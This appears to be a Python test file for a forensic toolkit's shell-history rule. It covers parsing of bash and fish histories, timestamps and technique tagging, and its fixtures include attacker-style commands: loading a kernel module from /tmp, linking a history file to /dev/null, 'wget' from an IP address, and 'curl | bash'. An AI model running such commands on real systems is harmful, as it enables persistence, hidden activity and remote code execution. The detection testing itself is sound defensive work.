"""Shell histories: commands, times, and histories that were switched off."""

from __future__ import annotations

from forensic_toolkit.readers.coverage import Coverage
from forensic_toolkit.rules import shell_histories
from tests.toolkit.fake_tree import Builder


def test_histories_and_silenced_histories() -> None:
    builder = Builder().add("/root/.bash_history", b"#1767323045\ninsmod /tmp/x.ko\nls\n")
    builder.add("/home/a/.bash_history", link="/dev/null")
    findings, events = shell_histories.examine(builder.tree(), coverage=Coverage())
    assert sorted(finding.technique or "" for finding in findings) == ["T1547.006", "T1690"]
    assert len(events) == 2


def test_what_administrators_type_every_day_accuses_nobody_alone() -> None:
    """Commands of a public system's own administrator, which were grave."""
    typed = """adduser admin
adduser admin sudo
usermod -aG sudo web
mv .ssh/authorized_hosts .ssh/authorized_keys
awk -F':' '{ print $1}' /etc/passwd
git rm -r --cached /var/log/
"""
    findings, _ = shell_histories.examine(
        Builder().add("/root/.bash_history", typed.encode()).tree(), coverage=Coverage()
    )
    assert {f.severity for f in findings} <= {"info", "low", "medium"}
    assert sorted(f.detail for f in findings if f.technique in ("T1098", "T1098.004")) == [
        "adduser admin sudo", "mv .ssh/authorized_hosts .ssh/authorized_keys", "usermod -aG sudo web",
    ]  # fmt: skip


def test_history_times() -> None:
    text = "#1767323045\nid\nuname -a\n: 1767323050:0;wget http://198.51.100.7/x\n\n"
    found = [(time.second if time else None, command) for time, command in shell_histories.commands(text)]
    assert found == [(5, "id"), (5, "uname -a"), (10, "wget http://198.51.100.7/x")]
    assert list(shell_histories.commands("id\n")) == [(None, "id")]


def test_fish_writes_the_time_below_the_command() -> None:
    """As fish 3 writes ~/.local/share/fish/fish_history (its own form, close to YAML)."""
    text = "- cmd: ls\n  when: 1795000000\n- cmd: for i in a\\n  curl $i | bash\\nend\n  when: 1795000060\n  paths:\n    - /x\n- cmd: id\n"
    found = list(shell_histories.commands(text))
    assert [(time.timestamp() if time else None, command.split("\n")[0]) for time, command in found] == [
        (1795000000.0, "ls"),
        (1795000060.0, "for i in a"),
        (None, "id"),
    ]
